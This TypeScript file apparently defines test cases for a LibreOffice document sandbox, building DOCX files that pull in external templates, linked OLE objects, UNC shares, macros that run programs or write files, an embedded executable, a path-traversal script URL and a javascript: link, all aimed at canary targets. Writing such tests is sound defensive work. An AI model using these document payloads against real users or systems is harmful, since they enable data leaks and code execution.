import { canaryPng } from '../canaries.ts';
import { type Case, endsSomehow, type Targets } from '../case.ts';
import {
  attackDocx,
  escapeXml,
  field,
  linkingDocx,
  NAMESPACES,
  paragraph,
  picture,
  type Relationship,
  text,
} from '../docx.ts';
import { html, odt } from '../foreign-documents.ts';
import { everywhere, fileUrls, stopsNetwork, webUrls } from './linked-pictures.ts';
import { runsProgram, writesFile } from './macros.ts';

const documents = ({ folders, web, hosts }: Targets, name = 'canary.docx'): string[] => [
  ...folders.map((folder) => `file://${folder}/${name}`),
  ...web.map((origin) => `${origin}/${name}`),
  ...hosts.map((host) => `\\\\${host}\\share\\${name}`),
];

/** A document with the linked pictures and fields that load by themselves, to be put inside others. */
const linksDocx = (targets: Targets, urls = everywhere(targets)): Buffer => {
  return attackDocx({
    body:
      urls.map((_, i) => paragraph(picture(`r:link="rId${i}"/>`, i))).join('') +
      documents(targets)
        .map((url) => paragraph(field(`INCLUDETEXT "${url}"`)))
        .join(''),
    relationships: urls.map((target, i) => ({ id: `rId${i}`, type: 'image', target })),
  });
};

/** An OLE object in a run, with the picture `rIdPreview` for those who do not open it. */
const ole = (attributes: string, preview = '<v:imagedata r:id="rIdPreview"/>'): string =>
  `<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="s" style="width:72pt;height:72pt" o:ole="">${preview}</v:shape><o:OLEObject ${attributes} ShapeID="s" DrawAspect="Content" ObjectID="_1"/></w:object></w:r>`;

const previewPart = { name: 'word/media/preview.png', data: canaryPng.subarray(0, 40) };
const preview: Relationship = { id: 'rIdPreview', type: 'image', target: 'media/preview.png' };

/** A document with an object of this class, once with a (broken) preview and once with none. */
const embedding = (progId: string, name: string, data: Buffer | string, type = 'oleObject'): Buffer =>
  attackDocx({
    body: ['<v:imagedata r:id="rIdPreview"/>', '']
      .map((image) => paragraph(ole(`Type="Embed" ProgID="${progId}" r:id="rIdObject"`, image)))
      .join(''),
    relationships: [preview, { id: 'rIdObject', type, target: `embeddings/${name}` }],
    parts: [previewPart, { name: `word/embeddings/${name}`, data }],
  });

const chunk = (name: string, data: Buffer | string): Buffer =>
  attackDocx({
    body: `${paragraph(text('before'))}<w:altChunk r:id="rIdChunk"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk>${paragraph(text('after'))}`,
    relationships: [{ id: 'rIdChunk', type: 'aFChunk', target: name }],
    parts: [{ name: `word/${name}`, data }],
  });

const page = (targets: Targets): string => html(everywhere(targets), documents(targets, 'canary.html'));

export const externalParts: readonly Case[] = [
  {
    name: 'attached templates',
    build: (targets) => {
      const urls = documents(targets);
      return attackDocx({
        body: paragraph(text('templated')),
        settings: {
          content: `${urls.map((_, i) => `<w:attachedTemplate r:id="rId${i}"/>`).join('')}<w:linkStyles/>`,
          relationships: urls.map((target, i) => ({ id: `rId${i}`, type: 'attachedTemplate', target })),
        },
      });
    },
  },
  {
    name: 'linked OLE objects',
    build: (targets) =>
      linkingDocx(
        [...documents(targets), ...documents(targets, 'canary.html'), ...documents(targets, 'canary.csv')],
        'oleObject',
        (id) =>
          ['Word.Document.12', 'Excel.Sheet.12', 'htmlfile', 'Package']
            .map((progId) => ole(`Type="Link" ProgID="${progId}" r:id="${id}" UpdateMode="Always"`, ''))
            .join(''),
      ),
  },
  {
    name: 'a package that holds a program',
    build: () =>
      embedding('Package', 'object.bin', Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(2_000)])),
  },
  {
    name: 'an equation object',
    build: () => embedding('Equation.3', 'object.bin', Buffer.from('D0CF11E0A1B11AE1'.repeat(200), 'hex')),
  },
  {
    name: 'an embedded document that links',
    build: (targets) =>
      embedding(
        'Word.Document.12',
        'inner.docx',
        linksDocx(targets, webUrls(targets, 'canary.png')),
        'package',
      ),
    outcomes: endsSomehow,
    claims: stopsNetwork,
  },
  {
    name: 'an embedded OpenDocument text with macros, frames and links',
    build: (targets) =>
      embedding(
        'LibreOffice.WriterDocument.1',
        'inner.odt',
        odt(targets, runsProgram(targets) + writesFile(targets)),
        'package',
      ),
  },
  {
    name: 'ActiveX and form controls',
    build: (targets) =>
      attackDocx({
        body: paragraph(
          `<w:r><w:object><v:shape id="c" style="width:72pt;height:72pt"><v:imagedata r:id="rIdPreview"/></v:shape><w:control r:id="rIdControl" w:name="c" w:shapeid="c"/></w:object></w:r>`,
        ),
        relationships: [preview, { id: 'rIdControl', type: 'control', target: 'activeX/activeX1.xml' }],
        parts: [
          previewPart,
          {
            name: 'word/activeX/activeX1.xml',
            type: 'application/vnd.ms-office.activeX+xml',
            data: `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ${NAMESPACES} ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Location" ax:value="${targets.web[0]}/canary.html"/><ax:ocxPr ax:name="Picture" ax:value="${targets.web[0]}/canary.png"/></ax:ocx>`,
          },
        ],
      }),
  },
  {
    name: 'sub-documents',
    build: (targets) =>
      linkingDocx(documents(targets), 'subDocument', (id) => `</w:p><w:subDoc r:id="${id}"/><w:p>`),
  },
  {
    name: 'an HTML chunk',
    build: (targets) => chunk('chunk.html', page(targets)),
  },
  {
    name: 'an HTML chunk that links over http',
    build: (targets) => chunk('chunk.html', html(webUrls(targets, 'canary.png'), [])),
    claims: stopsNetwork,
  },
  {
    name: 'an HTML chunk that links to files',
    build: ({ folders }) => chunk('chunk.html', html(fileUrls(folders, 'canary.png'), [])),
    // Not the profile: LibreOffice 26.8 does not know where what it loads from a chunk comes from.
    claims: ['files'],
  },
  {
    name: 'an MHT chunk',
    build: (targets) =>
      chunk(
        'chunk.mht',
        `MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Location: ${targets.web[0]}/\r\n\r\n${page(targets)}`,
      ),
  },
  {
    name: 'an RTF chunk',
    build: (targets) =>
      chunk(
        'chunk.rtf',
        `{\\rtf1{\\*\\template ${targets.web[0]}/canary.docx}rtf ${[...everywhere(targets)]
          .map((url) => `{\\field\\fldedit{\\*\\fldinst INCLUDEPICTURE "${url}" \\\\d}{\\fldrslt x}}`)
          .join('')}${documents(targets)
          .map(
            (url) =>
              `{\\field\\fldedit{\\*\\fldinst INCLUDETEXT "${url.replaceAll('\\', '\\\\')}"}{\\fldrslt x}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.12}{\\*\\objdata 01050000}{\\result x}}`,
          )
          .join('')}}`,
      ),
    claims: ['files'],
  },
  {
    name: 'a DOCX chunk that links',
    build: (targets) => chunk('chunk.docx', linksDocx(targets)),
    // A file and an address at once: of the sandbox's layers none stops both alone.
    claims: ['profile'],
  },
  {
    name: 'an OpenDocument chunk',
    build: (targets) => chunk('chunk.odt', odt(targets, runsProgram(targets) + writesFile(targets))),
    claims: ['files'],
  },
  {
    name: 'external chunks',
    build: (targets) =>
      linkingDocx(
        [...documents(targets), ...documents(targets, 'canary.html'), ...documents(targets, 'canary.txt')],
        'aFChunk',
        (id) => `</w:p><w:altChunk r:id="${id}"/><w:p>`,
      ),
  },
  {
    name: 'frames of a web page',
    build: (targets) => {
      const urls = documents(targets, 'canary.html');
      return attackDocx({
        body: paragraph(text('framed')),
        relationships: [{ id: 'rIdWeb', type: 'webSettings', target: 'webSettings.xml' }],
        parts: [
          {
            name: 'word/webSettings.xml',
            type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml',
            data: `<w:webSettings ${NAMESPACES}><w:frameset>${urls.map((_, i) => `<w:frame><w:sz w:val="50%"/><w:name w:val="f${i}"/><w:sourceFileName r:id="rId${i}"/></w:frame>`).join('')}</w:frameset></w:webSettings>`,
            relationships: urls.map((target, i) => ({ id: `rId${i}`, type: 'frame', target })),
          },
        ],
      });
    },
  },
  {
    name: 'custom XML, its schemas and its transformation',
    build: (targets) => {
      const [url = ''] = targets.web;
      const binding = `<w:dataBinding w:xpath="document('file://${targets.folders[0]}/canary.svg')/*" w:storeItemID="{00000000-0000-0000-0000-000000000001}"/>`;
      return attackDocx({
        body: `<w:sdt><w:sdtPr>${binding}<w:text/></w:sdtPr><w:sdtContent>${paragraph(text('bound'))}</w:sdtContent></w:sdt>`,
        relationships: [{ id: 'rIdXml', type: 'customXml', target: '../customXml/item1.xml' }],
        settings: {
          content: `<w:saveThroughXslt r:id="rId1"/><w:attachedSchema w:val="${url}/canary.xsd"/><w:schemaLibrary><w:schema w:uri="${url}" w:manifestLocation="${url}/manifest" w:schemaLocation="${url}/canary.xsd"/></w:schemaLibrary>`,
          relationships: [{ id: 'rId1', type: 'transform', target: `${url}/canary.xsl` }],
        },
        parts: [
          {
            name: 'customXml/item1.xml',
            data: `<?xml-stylesheet type="text/xsl" href="${url}/canary.xsl"?><x xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${url} ${url}/canary.xsd"><xi:include href="file://${targets.folders[0]}/canary.txt" parse="text"/></x>`,
            relationships: [{ id: 'rId1', type: 'customXmlProps', target: 'itemProps1.xml' }],
          },
          {
            name: 'customXml/itemProps1.xml',
            type: 'application/vnd.openxmlformats-officedocument.customXmlProperties+xml',
            data: `<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{00000000-0000-0000-0000-000000000001}"><ds:schemaRefs><ds:schemaRef ds:uri="${url}"/></ds:schemaRefs></ds:datastoreItem>`,
          },
        ],
      });
    },
    outcomes: endsSomehow,
  },
  {
    name: 'hyperlinks that call LibreOffice',
    build: (targets) => {
      const urls = [
        'macro:///Tools.Debug.ActivateReadOnlyFlag()',
        'vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&location=share',
        `vnd.sun.star.script:../../../../../..${targets.folders[0]}/canary.py$x?language=Python&location=share`,
        'vnd.sun.star.expand:$PLATEN_CANARY',
        'service:com.sun.star.sheet.FunctionAccess?x',
        'slot:5500',
        '.uno:Quit',
        '.uno:ExportToPDF',
        'vnd.sun.star.UNO:.uno:Reload',
        'vnd.sun.star.job:event=onStart',
        'private:factory/swriter?slot=6605',
        'vnd.sun.star.webdav://127.0.0.1/x',
        'javascript:alert(1)',
      ];
      return linkingDocx(
        urls,
        'hyperlink',
        (id, i) =>
          `<w:hyperlink r:id="${id}">${text(`link ${i}`)}</w:hyperlink>${field(`HYPERLINK "${urls[i - 1]}"`)}<w:r><w:pict><v:rect href="${escapeXml(urls[i - 1] ?? '')}" target="_top" style="width:9pt;height:9pt"/></w:pict></w:r>`,
      );
    },
  },
];
